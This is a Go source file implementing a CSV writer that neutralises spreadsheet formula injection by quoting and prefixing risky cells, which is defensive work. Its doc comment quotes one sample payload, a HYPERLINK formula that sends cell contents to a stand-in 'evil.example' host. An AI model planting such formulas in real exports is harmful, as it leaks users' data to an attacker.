package report

import (
	"bufio"
	"io"
	"strings"
)

// CSVWriter writes CSV (RFC 4180, comma-separated, "\n" line ends) that a
// spreadsheet opens without running anything in it: a text cell that a
// spreadsheet would take for a formula (it starts with =, +, -, @, a tab
// or a carriage return, after any spaces) gets a leading single quote, as
// OWASP recommends for CSV injection, so that a UTM tag such as
// =HYPERLINK("http://evil.example/?leak="&A1,"Click") planted by any hit
// shows as text. A text cell is quoted when it starts with a quote or a
// space, or holds a comma, a semicolon, a tab, a double quote or a line
// end, so that a spreadsheet that splits on semicolons (Excel in a Russian
// locale) or tabs cannot start a new cell inside it either.
//
// It lives in report because every table crmlink hands out is assembled
// here (DESIGN.md, data flow 3: reports, the Clients report, segments'
// audience files); those, and any later export, write CSV through it and
// never through encoding/csv directly. Terminal output (WriteText) is not
// CSV and does not use it.
type CSVWriter struct {
	w       *bufio.Writer
	numbers map[int]bool
	err     error
}

// NewCSVWriter returns a CSVWriter writing to w; call Flush at the end.
func NewCSVWriter(w io.Writer) *CSVWriter {
	return &CSVWriter{w: bufio.NewWriter(w), numbers: map[int]bool{}}
}

// NumberColumns marks the columns (from 0) that hold numbers we format
// ourselves (metrics, counts, money): a cell of them that is a plain
// decimal number, such as -12.5, is written as it is, so that a
// spreadsheet reads a number. Any other cell of those columns is text.
func (c *CSVWriter) NumberColumns(cols ...int) {
	for _, i := range cols {
		c.numbers[i] = true
	}
}

// Write writes one record.
func (c *CSVWriter) Write(record []string) error {
	if c.err != nil {
		return c.err
	}
	for i, cell := range record {
		if i > 0 {
			c.w.WriteByte(',')
		}
		if c.numbers[i] && plainNumber(cell) {
			c.w.WriteString(cell)
			continue
		}
		c.writeText(cell)
	}
	_, c.err = c.w.WriteString("\n")
	return c.err
}

// WriteAll writes records and flushes.
func (c *CSVWriter) WriteAll(records [][]string) error {
	for _, r := range records {
		if err := c.Write(r); err != nil {
			return err
		}
	}
	return c.Flush()
}

// Flush writes out what is buffered and returns the first error met.
func (c *CSVWriter) Flush() error {
	if err := c.w.Flush(); c.err == nil {
		c.err = err
	}
	return c.err
}

// writeText writes a text cell, neutralised and quoted as needed.
func (c *CSVWriter) writeText(cell string) {
	cell = neutral(cell)
	if !strings.HasPrefix(cell, "'") && !strings.ContainsAny(cell, ",;\t\"\r\n") && !strings.HasPrefix(cell, " ") {
		c.w.WriteString(cell)
		return
	}
	c.w.WriteByte('"')
	c.w.WriteString(strings.ReplaceAll(cell, `"`, `""`))
	c.w.WriteByte('"')
}

// neutral returns a text cell as a spreadsheet must show it: with a
// leading single quote when it would otherwise be read as a formula
// (its first character other than a space is =, +, -, @, a tab or a
// carriage return). Other text is returned unchanged, an already quoted
// one ('=1) included.
func neutral(s string) string {
	t := strings.TrimLeft(s, " ")
	if t == "" {
		return s
	}
	switch t[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return "'" + s
	}
	return s
}

// plainNumber tells whether s is a decimal number as we write them: an
// optional minus, digits, and optionally a point and digits.
func plainNumber(s string) bool {
	s = strings.TrimPrefix(s, "-")
	whole, frac, dot := strings.Cut(s, ".")
	return digits(whole) && (!dot || digits(frac))
}

func digits(s string) bool {
	if s == "" {
		return false
	}
	for i := 0; i < len(s); i++ {
		if s[i] < '0' || s[i] > '9' {
			return false
		}
	}
	return true
}
